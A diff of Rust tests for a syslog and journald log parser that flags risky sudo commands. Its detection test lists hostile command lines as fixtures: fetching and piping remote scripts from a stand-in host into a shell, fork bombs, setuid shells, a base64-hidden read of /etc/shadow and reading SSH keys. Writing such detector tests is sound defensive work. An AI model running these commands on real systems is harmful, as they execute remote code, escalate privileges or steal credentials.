@@ -1,7 +1,7 @@
 //! Rows of what a log says and what its table, sessions and hosts should be.
 
 use proptest::prelude::*;
-use serde_json::{Map, Value};
+use serde_json::{Map, Value, json};
 
 use super::*;
 use crate::table::read::{ReadOptions, read as read_file};
@@ -40,7 +40,7 @@ fn show(table: &Table, names: &str) -> String {
 #[test]
 fn lines_into_rows() {
     let text = "<86>Jan  1 00:05:00 web1 sshd[12]: Accepted password for bob from 10.0.0.1 port 22 ssh2\r\n\n\
-        <165>1 2024-01-01T00:06:00Z web2 app - ID47 [a b=\"c\"] hello\n\
+        -- Boot 0123abc --\n<165>1 2024-01-01T00:06:00Z web2 app - ID47 [a b=\"c\"] hello\n\
         Jan  1 00:07:00 web1 kernel: [1.0] x\n";
     let table = read(text, &of_2024()).expect("right");
     assert_eq!(
@@ -95,6 +95,26 @@ fn journalds_json() {
     assert_eq!(table.report().expect("a report").format, "journald");
 }
 
+/// What is all times or all lists elsewhere is text in a log.
+#[test]
+fn journalds_messages_are_text_whatever_they_say() {
+    for (message, expected) in [
+        ("\"2024-01-01\"", "2024-01-01"),
+        ("[104,105]", "hi"),
+        ("12", "12"),
+        ("null", ""),
+    ] {
+        let text = format!("{{\"_HOSTNAME\":\"2023-01-01\",\"MESSAGE\":{message}}}\n");
+        let table = read(&text, &SyslogOptions::default()).expect("right");
+        let expected = format!("2023-01-01|{expected}");
+        assert_eq!(
+            show(&table, "Computer SyslogMessage"),
+            expected,
+            "{message}"
+        );
+    }
+}
+
 #[test]
 fn broken_lines_are_named_or_skipped() {
     let text = "Jan  1 00:05:00 h x: y\nhello\nJan 32 00:00:00 h x: y\n";
@@ -135,7 +155,13 @@ fn a_year_is_one_that_there_is() {
         let error = read("Jan  1 00:05:00 h x: y", &options).expect_err("no such year");
         assert_eq!(error.code(), "invalidArgument", "{year}");
     }
-    for now in [f64::NAN, f64::INFINITY, -1e300, 0.0] {
+    let options = SyslogOptions {
+        now: Some(f64::NAN),
+        ..SyslogOptions::default()
+    };
+    let error = read("Jan  1 00:05:00 h x: y", &options).expect_err("no time");
+    assert_eq!(error.code(), "invalidArgument");
+    for now in [f64::INFINITY, -1e300, 0.0] {
         let options = SyslogOptions {
             now: Some(now),
             ..SyslogOptions::default()
@@ -331,10 +357,16 @@ fn risky_sudo() {
         risky(&table, &RiskySudoOptions::default()),
         "1|bob|risky command|/bin/bash|success|4|00:00 / -|eve|risky command|/bin/sh|failure|6|-"
     );
+    let rule = |pattern: &str| {
+        let rule = json!({ "id": "own", "name": "x", "severity": "low", "pattern": pattern });
+        vec![serde_json::from_value(rule).expect("a rule")]
+    };
     let own = RiskySudoOptions {
-        rules: Some(vec!["vim".into()]),
+        rules: rule("vim"),
+        built_in_rules: Some(false),
         burst_commands: 3,
         burst_seconds: 1.0,
+        ..RiskySudoOptions::default()
     };
     assert_eq!(
         risky(&table, &own),
@@ -345,7 +377,7 @@ fn risky_sudo() {
         (
             "a pattern",
             RiskySudoOptions {
-                rules: Some(vec!["(".into()]),
+                rules: rule("("),
                 ..RiskySudoOptions::default()
             },
         ),
@@ -381,6 +413,11 @@ fn which_commands_are_risky() {
     for (command, expected) in [
         ("/usr/bin/wget http://a.example/c | sh", true),
         ("curl -s http://a.example|sudo bash", true),
+        (":(){ : | : & } ; :", true),
+        // Of the rules of command lines, not of five for sudo alone.
+        ("/usr/bin/chmod u+s /tmp/sh", true),
+        ("/bin/sh -c 'echo Y2F0IC9ldGMvc2hhZG93 | base64 -d'", true),
+        ("certutil -urlcache -f http://a.example/x", false),
         ("/usr/bin/curl -O http://a.example/y.tar", false),
         ("/bin/cat /home/u/.ssh/authorized_keys", true),
         (":(){ :|:& };:", true),
